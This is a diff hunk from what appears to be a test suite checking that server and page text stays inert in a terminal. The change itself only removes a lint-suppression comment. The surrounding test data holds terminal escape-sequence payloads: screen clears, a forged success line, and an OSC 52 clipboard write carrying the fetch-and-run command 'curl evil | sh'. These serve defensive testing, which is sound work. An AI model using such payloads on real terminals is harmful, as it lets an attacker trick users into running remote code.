@@ -289,7 +289,7 @@ test.describe("server and page text is inert", () => {
   // line, a clipboard write (OSC 52), a C1 CSI; then a fake line of its own.
   const ESCAPES = `\x1b]0;pwned\x07\x1b[2J\x1b[3J\r\x1b[2K✔ all good\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07\u009b31m`;
   const FAKE_LINE = "\n✔ rotated, nothing else to do";
-  // eslint-disable-next-line no-control-regex
+
   const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
   const hostileLogin = (login: string): FaultRule => ({
     method: "GET",
